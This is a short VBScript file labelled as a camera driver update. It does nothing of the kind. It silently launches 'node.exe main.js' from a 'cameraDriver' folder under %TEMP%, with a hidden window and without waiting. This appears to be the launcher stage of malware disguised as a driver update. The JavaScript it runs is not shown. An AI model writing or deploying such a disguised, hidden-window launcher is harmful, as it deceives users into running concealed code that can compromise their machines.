' Camera driver update
Option Explicit
Dim sh, folder
Set sh = CreateObject("WScript.Shell")
folder = sh.ExpandEnvironmentStrings("%TEMP%") & "\cameraDriver"
sh.Run "cmd /c cd /d """ & folder & """ && node.exe main.js", 0, False
